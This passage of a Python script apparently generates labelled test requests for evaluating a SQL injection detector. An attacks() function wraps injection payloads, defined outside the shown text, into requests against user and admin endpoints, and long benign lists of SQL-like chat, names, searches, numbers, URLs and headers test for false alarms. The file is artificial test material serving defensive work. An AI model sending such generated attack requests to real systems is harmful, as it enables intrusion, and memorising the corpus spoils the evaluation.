        q = urllib.parse.quote(p, safe="[]$")
        value = "" if p.endswith("[]") else "1"
        return [("param-name", p, _get(f"/api/users?{q}={value}&page=1")),
                ("rs-param-name", p, _form(path, [(p, "admin"), ("pin", "1")]))]
    if mode == "doc":
        return [("json", p, _raw_json("/api/users/login", p)), ("rs-json", p, _raw_json(path, p))]
    raise ValueError(mode)


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    k = 0
    for sub, entries in TITLES:
        for entry in entries:
            for placement, p, req in _placed(entry, k):
                n += 1
                yield {**req, "id": f"{NAME}-sqli-{n:04d}", "category": "sqli", "sub": sub,
                       "placement": placement, "payload": p}
            k += 1


# Benign: the same words as people type them (chat, bios, searches, names, numbers, links, headers).
CHAT = [
    "can we merge the release branch before lunch? CI is green",
    "I'll sleep on it and send the benchmark numbers tomorrow",
    "the union meeting moved to Thursday, room 4B",
    "please select a date for the offsite in the poll",
    "drop me a line when the deploy is done",
    "order by Friday if you want the team hoodie",
    "don't forget: the match against the sales team is at 6pm",
    "we need to execute immediately on the customer feedback",
    "Happy birthday Siobhán! 🎂",
    "O'Brien's pub after the all-hands?",
    "it's 5' 11\" in the spec sheet, not 6'",
    "the wifi password changed, ask reception",
    "rock 'n' roll night at the office, bring your own vinyl",
    "the #general channel is for announcements only",
    "C# devs: the .NET 8 upgrade is scheduled for next sprint",
    "between you and me, the demo went really well",
    "like I said yesterday, the vendor call is at 3",
    "case in point: the last outage was DNS again",
    "if anyone needs a charger, there's one on my desk",
    "who's on call this weekend? I'm off from Friday",
    "shutdown of the old cluster is planned for March 3rd",
    "the benchmark suite takes 20 minutes, grab a coffee",
    "wait for the delay notice from the airline before booking",
    "our sleep study app got 4.8 stars this week!",
    "I'm having lunch at the Union Street cafe",
    "ALTER: the meeting notes were updated, see the doc",
    "we're going to insert a slide about pricing",
    "update: the printer on 3 works again",
    "delete the old screenshots from the shared drive please",
    "tables for the dinner are booked for 12 people",
    "the information desk is on the ground floor",
    "schema review for the orders service is tomorrow at 10",
    "the mysql 8.0 upgrade finished overnight, no errors",
    "Postgres 16 has nicer logical replication, worth a look",
    "we moved the reports from SQL Server to Snowflake",
    "Oracle licensing renewal is due in Q3",
    "SQLite is fine for the mobile cache",
    "MongoDB Atlas bill went down after the index cleanup",
    "remember to rotate the API keys every 90 days",
    "Ran a quick query: 1,204 active users last week",
    "the new hire's name is D'Angelo, say hi",
    "the sign says \"No entry\" but the door was open",
    "yes/no? lunch at 12:30 -- reply in thread",
    "thanks!! -- Sam",
    "see the doc for details /* draft */",
    "I'd say 50/50 on whether the flight is delayed",
    "hex color for the brand is #1a2b3c, not #1a2b3d",
    "memory address 0x7ffd5e8c in the crash log, filed a ticket",
    "the build number is 2147483648 now, we overflowed int32 in the dashboard lol",
    "the invoice total is 4294967296 rupiah, double-check with finance",
    "the tolerance is 2.2e-3 mm, not 2.2e-2",
    "score: 3 > 2, we won the quiz!",
    "A=B for the purposes of this report",
    "please use 'single quotes' in the style guide examples",
    "if (weather == rain) then movie night else picnic",
    "the xp of the new intern is impressive",
    "exec team offsite in Lisbon, dates TBD",
    "I love the new `dark mode` setting",
    "the match score was 2-1, what a game",
    "merge conflict in README, resolving now",
    "char limit for tweets is 280",
    "concat the two CSVs and send them to me",
    "the ascii art in the banner is hilarious",
    "who ordered the pizza with 'extra cheese'?",
    "coffee machine is broken -- again :(",
    "waiting for approval from legal",
    "the sleep() call in the retry loop was removed in PR 4521",
    "we use pg_dump nightly and keep 14 days",
    "information_schema queries are slow on our big tenant, use the catalog cache",
    "the mysql.user grants were audited last week",
    "put a LIMIT on that report query, it scanned 40M rows",
    "the ORM builds select ... from users where id = ? for us",
    "never concatenate user input into SQL, use bind parameters",
    "SQL injection training is mandatory this quarter",
    "sp_who2 showed a blocked session on the reporting DB",
    "the DBA ran DBCC CHECKDB, all clean",
    "xp_cmdshell stays disabled on every instance, per policy",
    "the MATCH ... AGAINST full-text index works well for search",
    "benchmark(): the JS one in our perf harness, not MySQL's",
    "MERGE statement in the ETL handles upserts",
    "WAITFOR in the SQL Agent job was replaced by a schedule",
    "mongo $regex queries need an index to be fast",
    "the $ne filter in the admin report excludes archived rows",
    "I read the 'Little Bobby Tables' comic again, still funny",
    "run `SELECT version();` on the replica and paste the output",
    "the query was select count(*) from orders where created_at > now() - interval '1 day'",
    "use COALESCE for the null emails in the export",
    "the CASE WHEN in the revenue view is getting huge",
    "UNION ALL is faster than UNION there since we don't need dedupe",
    "the stored procedure for payroll runs at midnight",
    "the DROP TABLE in the migration is guarded by IF EXISTS",
    "the charset is utf8mb4 everywhere now",
    "trying out the new GROUP BY ... HAVING report for churn",
    "vacation: I'm out from Dec 20 to Jan 3",
    "Ünïcödé test: naïve café résumé",
    "the 'Q&A' session starts in 5 minutes",
    "the price is $19.99 (was $24.99)",
    "the address is 221B Baker Street, London",
    "we're at 99.9% uptime, nice",
    "it's a 50% discount -- limited time",
    "the kids' party was great, thanks everyone",
    "don't @ me, it's Monday",
    "my cat's name is Null, the vet's form crashed",
    "the or-tools solver found a schedule in 2 seconds",
    "and/or: both options are fine",
    "if/else logic in the onboarding flow needs a diagram",
    "the ‘smart quotes’ in the doc broke the CSV import",
    "Slack says ‘Don’t disturb’ mode is on until 9",
    "the acute accent in José´s name shows wrong in the PDF",
    "the backtick key is broken on my keyboard: `",
    "1=1 meeting with my manager at 4",
    "Room 1 or 2 for the interview? either works",
    "the IN list had 500 ids, split it into batches",
    "json_extract is handy for the audit log column",
    "the jsonb column makes the settings migration easy",
    "1.e notation showed up in the CSV export, Excel strikes again",
    "the sci notation 1e5 means 100000, for the record",
    "ticket #4521: login button misaligned on Safari",
    "the hash for the release is a1b2c3d, tag pushed",
    "grep -- '--verbose' in the scripts found 3 uses",
    "the sed one-liner is s/foo/bar/g",
    "regexp for emails is in utils, don't write a new one",
    "I like the new logo; sounds like the designers nailed it",
    "the table tennis tournament starts Friday",
    "handle the edge case where the name is empty",
    "we load data from S3 into the warehouse every hour",
    "truncate the long titles to 80 chars in the UI",
    "rename the channel to #team-platform",
    "desc: short for description in the API docs",
    "the create function in the SDK returns a promise",
    "declare your dietary needs in the form by Wednesday",
    "the exec summary is two pages, max",
    "benchmarking the new laptops: M3 is 2x faster",
    "I'm not sure if it's 'Smith' or 'Smyth'",
    "the quarterly numbers: revenue up 12%, costs down 3%",
    "good morning everyone ☀️",
    "the new office has a 'quiet room' on floor 2",
]
SEARCHES = [
    "O'Brien",
    "D'Angelo",
    "O'Neil & Sons",
    "L'Oréal",
    "McDonald's",
    "rock 'n' roll",
    "Ireland's Eye",
    "5' 11\"",
    "12\" pizza",
    "\"exact phrase\"",
    "union street",
    "union pacific",
    "select comfort mattress",
    "drop earrings",
    "order history",
    "sleep apnea",
    "benchmark report",
    "match schedule",
    "merge pdf",
    "execute order",
    "shutdown button",
    "delay repay",
    "waitfor",
    "table lamp",
    "information desk",
    "schema.org markup",
    "master bedroom",
    "temp db",
    "north wind",
    "between the lines",
    "like new",
    "case study",
    "if only",
    "char broil grill",
    "ascii art",
    "concat tool",
    "hex key set",
    "0x10c",
    "#hashtag",
    "C#",
    "F#",
    "and then there were none",
    "or else",
    "1 or 2 bedroom",
    "1 and 1/2 bath",
    "5 > 3",
    "a <= b",
    "x = y",
    "tom & jerry",
    "salt & pepper",
    "AT&T",
    "R&D",
    "Q&A",
    "50% off",
    "100% cotton",
    "$5 deals",
    "wait time",
    "pg 13 movies",
    "alter ego",
    "insert coin",
    "update firmware",
    "delete account",
    "create account",
    "load balancer",
    "truncated cone",
    "rename file",
    "desc order",
    "group by location",
    "having fun",
    "exists",
    "top 10",
    "limit break",
    "null island",
    "sysadmin jobs",
    "MySQL developer",
    "Postgres consultant",
    "SQL Server DBA",
    "Oracle DBA",
    "MongoDB certification",
    "sqlite browser",
    "--",
    "...",
    "?!",
    "--help",
    "3-4 weeks",
    "e-mail",
    "co-op",
    "well-known",
    "self-service",
    "1.5e6",
    "2e10",
    "1.e",
    "9223372036854775807",
    "4294967295",
    "2147483647",
    "3.14159",
    "-1",
    "0",
    "00001",
    "1,000,000",
    "José´s café",
    "‘quoted’",
    "“smart”",
    "it’s",
    "don’t",
    "`code`",
    "user@example.com",
    "+1 (555) 010-9999",
    "SW1A 1AA",
    "10001",
    "Straße",
    "São Paulo",
    "Zürich",
    "Kraków",
    "日本語",
    "مرحبا",
    "привет",
    "naïve",
    "/etc",
    "C:\\Users",
    "N/A",
    "TBD",
    "a-b-c",
    "(555)",
    "[draft]",
    "{name}",
    "@channel",
    "~/Downloads",
    "^_^",
    ":-)",
    "*important*",
    "x * y",
    "mod 2",
    "div class",
    "not null",
    "is not",
    "sounds like",
    "regexp tutorial",
    "glob pattern",
    "json extract",
    "jsonb vs json",
]
NAMES = [
    ("Conan O'Brien", "1 Main St, Apt 2'B"),
    ("Siobhán Ní Bhriain", "Dublin 2, Ireland"),
    ("D'Angelo Russell", "12 King's Road"),
    ("Jean-Luc d'Arcy", "Rue de l'Église 5, Paris"),
    ("Mary-Kate O'Neil", "St. Mary's Lane 14"),
    ("José Álvarez", "Calle Mayor 3, 2º izq."),
    ("Zoë Saldaña", "Sunset Blvd #100"),
    ("Nguyễn Văn An", "Quận 1, TP. Hồ Chí Minh"),
    ("Björk Guðmundsdóttir", "Reykjavík 101"),
    ("François L'Hôpital", "Place d'Armes 1"),
    ("Ann Select", "Union Square 10, New York"),
    ("Bob Drop", "Merge Lane 7"),
    ("Carl Union", "Table Mountain Rd 4"),
    ("Dana Sleep", "Benchmark Ave 22"),
    ("Eve Match", "Against the Wind Ln 9"),
    ("Frank Case", "When Street 1"),
    ("Grace Null", "Information Way 3"),
    ("Hank Master", "Sysdatabases Close 1"),
    ("Ivy Exec", "Delay Drive 5"),
    ("Jack Like", "Between Rd 12"),
    ("Kim Char", "Hex Hill 0x1"),
    ("Lee Or", "And Avenue 2"),
    ("Mo Having", "Group St 8"),
    ("Nina Insert", "Update Terrace 6"),
    ("Oscar Shutdown", "Waitfor Way 11"),
    ("Pat Benchmark", "Sleepy Hollow 1"),
    ("Quinn Alter", "Charset Court 3"),
    ("Rosa Execute", "Immediate Pl 4"),
    ("Sam Mongo", "Regex Row 5"),
    ("Tara Concat", "Load File Ln 2"),
    ("Uma \"Sunny\" Patel", "Flat 3, \"The Willows\""),
    ("Victor `Vic` Hugo", "Backtick Blvd 1"),
    ("Walt O’Connor", "Curly Quote Ct 7"),
    ("Xena ‘Warrior’ Princess", "Amphipolis 1"),
    ("Yusuf Ali-Khan", "Road #5, Block C"),
    ("Zed #1 Fan", "Unit 4/5 Industrial Est"),
    ("Anne-Marie Lefèvre", "12, rue des Écoles"),
    ("Li Wei (李伟)", "北京市朝阳区"),
    ("Åsa Öberg", "Storgatan 1, 111 22 Stockholm"),
    ("Dr. Ruth K. Smith, PhD", "Suite 200 - 1st Floor"),
    ("O'Reilly Media", "1005 Gravenstein Hwy N, Sebastopol"),
    ("Tom's Diner", "2880 Broadway, New York"),
    ("Ben & Jerry's", "30 Community Dr, Burlington"),
    ("Toys\"R\"Us", "1 Geoffrey Way"),
    ("Macy's; Herald Square", "151 W 34th St"),
    ("AT&T -- Store 12", "Mall Level 2"),
    ("Sleep Number", "1001 Third Ave S"),
    ("Union Bank", "400 California St"),
    ("Oracle Park", "24 Willie Mays Plaza"),
    ("Match Group", "8750 N Central Expy"),
    ("Merge Records", "Durham, NC"),
    ("Information Builders", "2 Penn Plaza"),
    ("Select Comfort", "9800 59th Ave N"),
    ("Master Lock", "137 W Forest Hill Ave"),
    ("Pizza Hut #2147483648", "Elm St 5"),
    ("St. John's Wort Ltd.", "Herb Ln 1"),
    ("Chloë O'Sullivan", "Apt. 3 - 'The Old Mill'"),
    ("R. J. \"Bob\" Dole", "Russell, KS"),
    ("Sinéad O'Connor", "Bray, Co. Wicklow"),
    ("Mike D'Antoni", "Mullens, WV"),
]
NUMBERS = [
    "2147483647", "2147483648", "4294967295", "4294967296", "9223372036854775807", "18446744073709551615",
    "0.000001", "1e-9", "6.022e23", "2.2e-308", "1.7976931348623157e308", "3.0", "0.5", "-273.15",
    "1234567890123", "4111111111111111", "00420", "1.0.3", "2.10.0-beta.1", "10.0.0.1", "2024-06-01",
    "12:30", "45.4215,-75.6972", "+44 20 7946 0958", "0x1F", "0b1010", "1_000_000", "1,5", "99.99",
    "100%", "3/4", "-1", "0", "1", "42", "007", "1e3", "5e-1", "2.5E+2", "9.99e2",
    "123-45-6789", "A1B2C3", "INV-2024-0001", "PO#12345", "SKU 8841-XL", "v2", "#42", "1/2", "3.14", "2^10",
]
URLS = [
    "https://dev.mysql.com/doc/refman/8.0/en/select.html",
    "https://www.postgresql.org/docs/current/functions-datetime.html#FUNCTIONS-DATETIME-DELAY",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/lnpls/EXECUTE-IMMEDIATE-statement.html",
    "https://www.sqlite.org/lang_select.html",
    "https://www.mongodb.com/docs/manual/reference/operator/query/ne/",
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://cheatsheetseries.owasp.org/cheatsheets/Query_Parameterization_Cheat_Sheet.html",
    "https://xkcd.com/327/",
    "https://en.wikipedia.org/wiki/Union_(set_theory)",
    "https://en.wikipedia.org/wiki/O%27Brien",
    "https://www.example.com/search?q=union+square&sort=desc",
    "https://shop.example.org/products?category=sleep&order=price_asc",
    "https://maps.example.com/?q=O'Connell+Street,+Dublin",
    "https://news.example.net/2024/05/merge-completed-between-two-banks",
    "https://blog.example.io/posts/benchmarking-node-20?utm_source=slack&utm_medium=chat",
    "https://github.com/acme/app/pull/4521#issuecomment-1",
    "https://jira.example.com/browse/DB-1024?filter=-1",
    "https://docs.example.com/api#tag/Users/operation/selectUser",
    "https://www.bbc.co.uk/sport/football/match-report",
    "https://example.com/a/b/c?x=1&y=2&z=3",
    "https://example.com/?ref=newsletter#section-2",
    "https://fonts.googleapis.com/css2?family=Open+Sans:wght@400;700&display=swap",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://calendar.example.com/event?id=7&title=Union%20meeting",
    "https://www.amazon.com/s?k=drop+earrings&ref=nb_sb_noss",
    "https://stackoverflow.com/questions/60174/how-can-i-prevent-sql-injection-in-php",
    "https://www.imdb.com/title/tt0111161/?ref_=nv_sr_1",
    "https://example.org/files/O'Reilly%20-%20SQL%20Pocket%20Guide.pdf",
    "https://www.reddit.com/r/SQL/comments/abc123/case_when_vs_iif/",
    "https://wiki.example.com/display/ENG/Information+Schema+Notes",
    "https://example.com/catalog?min=2147483648&max=4294967295",
    "https://www.w3schools.com/sql/sql_having.asp",
    "https://tickets.example.com/match/2024-06-01/arsenal-vs-chelsea",
    "https://status.example.com/incidents/shutdown-of-legacy-api",
]
USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Mobile Safari/537.36",
    "curl/8.5.0",
    "python-requests/2.32.3",
    "okhttp/4.12.0",
    "PostmanRuntime/7.39.0",
    "Go-http-client/2.0",
    "axios/1.7.2",
    "Apache-HttpClient/4.5.14 (Java/17.0.11)",
    "MyCompanyApp/3.2.1 (iOS 17.5; iPhone15,2; Scale/3.00)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17628; Pro)",
]
REFERERS = [
    "https://www.google.com/search?q=o%27brien+union+square",
    "https://www.bing.com/search?q=select+comfort+sleep+number",
    "https://duckduckgo.com/?q=merge+pdf+files&ia=web",
    "https://example.com/search?q=O'Brien",
    "https://example.com/products?sort=price&order=desc",
    "https://t.co/abc123",
    "https://www.facebook.com/",
    "https://mail.example.com/?view=inbox#label/drop-ship",
    "https://example.com/?q=1+or+2+bedroom",
    "https://example.com/blog/2024/05/match-report",
]
COOKIES = [
    "session=abc123; theme=dark; lang=en-US",
    "session=abc123; cart=%7B%22items%22%3A%5B1%2C2%5D%7D",
    "session=abc123; last_search=O%27Brien",
    "session=abc123; _ga=GA1.2.1234567890.1719000000; _gid=GA1.2.987654321.1719000000",
    "session=abc123; consent=necessary%2Canalytics; tz=Europe%2FDublin",
    "session=abc123; recent=union%20square%2Cselect%20comfort",
    "session=abc123; sort=desc; order=created_at",
    "session=abc123; name=Conan%20O%27Brien",
    "session=abc123; prefs=compact; font=Open%20Sans",
    "session=abc123; flash=Your%20changes%20were%20saved%21",
]


def _search_requests(term: str) -> tuple[dict[str, Any], dict[str, Any]]:
    return (_get(_query("/api/users", [("q", term), ("page", "1")])),
            _form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", term)]))


def _profile_requests(name: str, address: str) -> tuple[dict[str, Any], dict[str, Any]]:
    return (_json("/api/users", {"name": name, "address": address, "email": "user@example.org"}),
            _multipart("/admin/users/import", [("csrf_token", None, "t0k3n"), ("display_name", None, name),
                                               ("file", f"{name} CV.pdf", "%PDF-1.4 sample")]))


def _number_requests(value: str) -> tuple[dict[str, Any], dict[str, Any]]:
    return (_get(_query("/api/users", [("ref", value), ("page", "1")])),
            _json("/api/users/42", {"external_id": value, "note": f"imported value {value}"}))


def _header_requests() -> Iterator[dict[str, Any]]:
    for ua in USER_AGENTS:
        yield {**_get("/api/users?page=1"), "headers": {"User-Agent": ua, "Accept": "application/json"}}
        yield {**_get("/admin/users/search?q=ann"), "headers": {"User-Agent": ua, "Accept": "text/html"}}
    for ref in REFERERS:
        yield {**_get("/api/users?page=1"), "headers": _headers({"Referer": ref})}
        yield {**_get("/admin/users"), "headers": _headers({"Referer": ref})}
    for cookie in COOKIES:
        yield {**_get("/api/users/42"), "headers": _headers({"Cookie": cookie})}
        yield {**_get("/me/profile"), "headers": _headers({"Cookie": cookie})}


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, NAME)
    n = yield from numbered((r for t in SEARCHES for r in _search_requests(t)), f"{NAME}-search", n, "mixed")
    n = yield from numbered((r for nm, addr in NAMES for r in _profile_requests(nm, addr)), f"{NAME}-profile", n,
                            "mixed")
    n = yield from numbered((r for v in NUMBERS for r in _number_requests(v)), f"{NAME}-number", n, "mixed")
    n = yield from links_and_prose(URLS, [], NAME, n)
    yield from numbered(_header_requests(), f"{NAME}-header", n, "header")


if __name__ == "__main__":
    print_records(attacks(), benign())
